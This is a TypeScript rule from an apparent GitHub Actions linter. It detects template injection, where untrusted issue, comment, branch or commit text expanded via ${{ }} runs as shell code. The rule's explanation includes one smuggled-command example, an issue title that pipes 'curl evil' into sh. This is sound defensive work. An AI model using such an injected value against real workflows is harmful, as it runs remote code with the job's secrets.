import { Step } from '../../kinds/actions.ts'
import { showsIn } from '../../syntax/expression/shows.ts'
import { expressionsIn } from '../../syntax/expression/template.ts'
import type { Check } from '../check.ts'
import { isAction } from './reference.ts'

export const check: Check<Step> = {
  title: 'Text of strangers is run as code',
  why: `\`\${{ }}\` is filled in before the shell sees the script, so an issue titled \`"; curl evil | sh #\` runs, with the job's
token and secrets. Hand the text over as an environment variable and use that, quoted, in the script.`,
  severity: 'critical',
  level: 'default',
  on: Step,
  controls: ['soc2/CC6.8', 'nist-800-53/SI-7'],
  sources: ['zizmor/template-injection', 'actionlint/expression', 'checkov/CKV_GHA_2', 'poutine/injection'],
  *run({ run, uses, with: inputs }) {
    const script = isAction(uses ?? '', 'actions/github-script') ? inputs?.script : undefined
    const sinks = [
      { text: run, at: ['run'] },
      { text: script, at: ['with', 'script'] },
    ]
    for (const { text, at } of sinks) {
      if (typeof text !== 'string') continue
      const names = expressionsIn(text).flatMap(({ parsed }) => ('flaw' in parsed ? [] : showsIn(parsed.expression)))
      const open = names.map((steps) => steps.join('.')).find((name) => isOpen(name))
      if (open !== undefined)
        yield {
          at,
          message: `Anybody can write \`${open}\`, and here it becomes part of the script; pass it through \`env\` and quote it`,
        }
    }
  },
  examples: [
    {
      bad: `
        on: issues
        jobs:
          greet:
            runs-on: ubuntu-24.04
            steps:
              - run: echo "New issue \${{ github.event.issue.title }}"
      `,
      good: `
        on: issues
        jobs:
          greet:
            runs-on: ubuntu-24.04
            steps:
              - run: echo "New issue $TITLE"
                env:
                  TITLE: \${{ github.event.issue.title }}
      `,
    },
  ],
}

function isOpen(name: string): boolean {
  return /^github\.head_ref$/i.test(name) || (/^github\.event\./i.test(name) && open.test(name))
}

/** Fields of webhook payloads that people without rights can fill: GitHub's guide to secure use, read 2026-11-21. */
const open =
  /\.(?:(?:issue|pull_request|discussion)\.(?:title|body)|(?:comment|review)\.body|page_name|(?:head_commit|commits\.[\w*]+)\.(?:message|(?:author|committer)\.(?:email|name))|head\.(?:ref|label)|head\.repo\.default_branch|workflow_run\.(?:head_branch|display_title|head_repository\.description))$/i
